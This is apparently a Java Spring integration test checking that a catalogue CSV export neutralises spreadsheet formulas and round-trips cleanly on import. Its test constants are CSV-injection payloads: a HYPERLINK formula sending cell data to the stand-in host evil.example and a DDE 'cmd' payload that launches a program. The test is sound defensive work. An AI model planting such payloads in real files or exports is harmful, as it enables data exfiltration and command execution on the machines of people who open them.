package org.cloakroom.kiosk.web.api;

import org.junit.jupiter.api.Test;

import org.cloakroom.kiosk.SignedIn;
import org.cloakroom.kiosk.SimulationIT;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.test.context.TestPropertySource;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The catalogue export: its CSV cannot run as a spreadsheet formula, importing it gives
 * back exactly the entries exported, and the OpenAPI document says what it returns.
 */
@SimulationIT
@TestPropertySource(properties = "spring.datasource.url=jdbc:h2:mem:edge-refusals;DB_CLOSE_DELAY=-1")
@AutoConfigureMockMvc
class CatalogueExportIT {

	private static final String NAME = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

	private static final String PUBLISHER = "+cmd|' /C calc'!A0";

	private static final String REASON = "@SUM(1+1) and more";

	@Autowired
	private MockMvc mvc;

	@Test
	void csvExportNeutralisesFormulasAndItsImportChangesNothing() throws Exception {
		this.mvc
			.perform(post("/api/v1/catalogue/entries").contentType(MediaType.APPLICATION_JSON)
				.content(
						"""
								{"id": "formula-app", "name": %s, "publisher": %s, "severity": "WARN", "reason": %s,
								 "identifiers": [{"platform": "ANDROID", "identifier": "org.formula.app", "evidence": "-seen in a test"}],
								 "sources": [{"title": "'quoted' title", "published": "2024-05-01", "url": "https://example.org/r"}]}"""
							.formatted(json(NAME), json(PUBLISHER), json(REASON)))
				.with(SignedIn.admin()))
			.andExpect(status().isCreated());
		String csv = this.mvc.perform(get("/api/v1/catalogue/export").param("format", "csv").with(SignedIn.admin()))
			.andExpect(status().isOk())
			.andExpect(content().contentTypeCompatibleWith("text/csv"))
			.andReturn()
			.getResponse()
			.getContentAsString();
		String row = csv.lines().filter((line) -> line.startsWith("formula-app,")).findFirst().orElseThrow();
		assertThat(row).contains(",\"'=HYPERLINK(", ",'+cmd|", ",'@SUM(1+1) and more,");
		for (String cell : row.split(",")) {
			assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@").doesNotStartWith("-");
		}
		this.mvc
			.perform(post("/api/v1/catalogue/import").contentType(MediaType.parseMediaType("text/csv"))
				.content(csv)
				.with(SignedIn.admin()))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.created").isEmpty())
			.andExpect(jsonPath("$.replaced").isEmpty());
		this.mvc.perform(get("/api/v1/catalogue/entries/formula-app").with(SignedIn.admin()))
			.andExpect(jsonPath("$.name").value(NAME))
			.andExpect(jsonPath("$.publisher").value(PUBLISHER))
			.andExpect(jsonPath("$.reason").value(REASON))
			.andExpect(jsonPath("$.identifiers[0].evidence").value("-seen in a test"))
			.andExpect(jsonPath("$.sources[0].title").value("'quoted' title"));
	}

	@Test
	void theOpenApiDocumentSaysTheExportIsTheCatalogueFileInJsonOrCsv() throws Exception {
		String ok = "$.paths['/api/v1/catalogue/export'].get.responses['200'].content";
		this.mvc.perform(get("/v3/api-docs").with(SignedIn.auditor()))
			.andExpect(jsonPath(ok + "['application/json'].schema['$ref']").value("#/components/schemas/CatalogueFile"))
			.andExpect(jsonPath(ok + "['text/csv'].schema.type").value("string"))
			.andExpect(jsonPath(ok + "['*/*']").doesNotExist())
			.andExpect(jsonPath("$.components.schemas.CatalogueFile.properties.entries.type").value("array"));
		this.mvc.perform(get("/api/v1/catalogue/export").with(SignedIn.admin()))
			.andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_JSON))
			.andExpect(jsonPath("$.about").isString())
			.andExpect(jsonPath("$.entries[0].identifiers").isArray());
	}

	private static String json(String text) {
		return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
	}

}
